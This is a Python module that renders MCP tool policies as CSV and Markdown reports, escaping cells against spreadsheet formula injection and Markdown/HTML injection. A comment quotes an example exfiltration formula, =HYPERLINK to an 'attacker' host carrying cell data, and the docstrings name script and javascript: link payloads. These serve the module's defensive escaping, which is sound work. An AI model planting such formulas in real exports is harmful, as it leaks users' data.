"""Reports for people: CSV (one row per tool) and Markdown (a table per risk level)."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Sequence

from catalog.display import printable
from catalog.policies.formats import ExportOptions, Format
from catalog.policies.generate import RISK_ORDER, ToolPolicy
from classifier.verdict import ACTION_CLASS

COLUMNS = (
    "server",
    "tool",
    "category",
    "action",
    "class",
    "risk",
    "policy_level",
    "decision",
    "rate_limit",
    "guards",
    "override",
    "hash",
    "rationale",
)


def row(p: ToolPolicy, opts: ExportOptions) -> dict[str, str]:
    limit = p.rate_limit
    o = p.override or p.set_aside
    override = ""
    if o is not None:
        override = f"{o.decision} by {o.author}: {o.reason}" + (
            " (REVIEW: definition changed; set aside, the generated rule applies)"
            if p.set_aside is not None
            else " (REVIEW: definition changed)"
            if p.stale_override
            else ""
        )
    return {
        "server": p.server or "",
        "tool": p.tool,
        "category": p.category,
        "action": p.action,
        "class": ACTION_CLASS.get(p.action, ""),
        "risk": p.risk,
        "policy_level": p.level,
        "decision": p.decision,
        "rate_limit": f"{limit[0]}/{limit[1]}s" if limit else "",
        "guards": "; ".join(g.why for g in p.active_guards),
        "override": override,
        "hash": p.hash if opts.pin else p.hash[:12],
        "rationale": p.rationale,
    }


def ordered(policies: Sequence[ToolPolicy]) -> list[ToolPolicy]:
    return sorted(
        policies, key=lambda p: (-RISK_ORDER.index(p.risk) if p.risk in RISK_ORDER else 0, p.server or "", p.tool)
    )


class CsvExporter:
    format = Format.CSV
    suffix = ".csv"

    def render(self, policies: Sequence[ToolPolicy], opts: ExportOptions) -> str:
        buf = io.StringIO()
        writer = csv.DictWriter(buf, fieldnames=COLUMNS, lineterminator="\n")
        writer.writeheader()
        for p in ordered(policies):
            writer.writerow({k: _csv_cell(v) for k, v in row(p, opts).items()})
        return buf.getvalue()

    def validate(self, text: str) -> list[str]:
        reader = csv.DictReader(io.StringIO(text))
        if tuple(reader.fieldnames or ()) != COLUMNS:
            return [f"columns are {reader.fieldnames}, expected {list(COLUMNS)}"]
        return [f"row {i}: risk {r['risk']!r}" for i, r in enumerate(reader, 2) if r["risk"] not in RISK_ORDER]


#: A spreadsheet runs a cell that starts with one of these as a formula
#: (=HYPERLINK("http://attacker/?"&A1, ...) in a tool's name or description).
_FORMULA_START = ("=", "+", "-", "@", "\t")  # a leading "\r" is already shown as \u000d


def _csv_cell(text: str) -> str:
    """A cell a spreadsheet shows as text: a leading formula character is quoted away with
    ``'`` (as OWASP advises), control characters are shown, not kept."""
    text = printable(text)
    return "'" + text if text.startswith(_FORMULA_START) else text


_MARKDOWN_SPECIAL = str.maketrans({"|": "\\|", "<": "&lt;", ">": "&gt;", "&": "&amp;", "[": "\\[", "]": "\\]"})


def _cell(text: str) -> str:
    """One table cell of Markdown that stays text: no raw HTML (``<script>``), no links
    (``[x](javascript:...)``), no cell breaks, controls shown."""
    return " ".join(printable(text).translate(_MARKDOWN_SPECIAL).split())


def _code(text: str) -> str:
    """A code span around ``text`` whatever backticks it holds (CommonMark: a fence longer
    than any run inside, padded with spaces)."""
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * (longest + 1)
    inner = " ".join(printable(text).replace("|", "\\|").split())
    return f"{fence} {inner} {fence}" if longest else f"{fence}{inner}{fence}"


class MarkdownExporter:
    format = Format.MARKDOWN
    suffix = ".md"

    def render(self, policies: Sequence[ToolPolicy], opts: ExportOptions) -> str:
        out = ["# MCP tool policy report", "", f"{len(policies)} tools. {opts.description}.", ""]
        for risk in reversed(RISK_ORDER):
            group = [p for p in ordered(policies) if p.risk == risk]
            if not group:
                continue
            out += [
                f"## {risk} ({len(group)})",
                "",
                "| server | tool | category | class | decision | guards / override | rationale |",
                "|---|---|---|---|---|---|---|",
            ]
            for p in group:
                r = row(p, opts)
                doubt = f"in doubt: policy of {p.level}" if p.level != p.risk else ""
                extra = "; ".join(x for x in (doubt, r["rate_limit"], r["guards"], r["override"]) if x)
                out.append(
                    f"| {_cell(r['server'])} | {_code(p.tool)} | {r['category']} | {r['class']} | "
                    f"{r['decision']} | {_cell(extra)} | {_cell(p.rationale)} |"
                )
            out.append("")
        return "\n".join(out)

    def validate(self, text: str) -> list[str]:
        errors = [] if text.startswith("# MCP tool policy report") else ["missing title"]
        for i, line in enumerate(text.splitlines(), 1):
            if line.startswith("| ") and len(re.findall(r"(?<!\\)\|", line)) != 8:
                errors.append(f"line {i}: a table row needs 7 cells")
        return errors
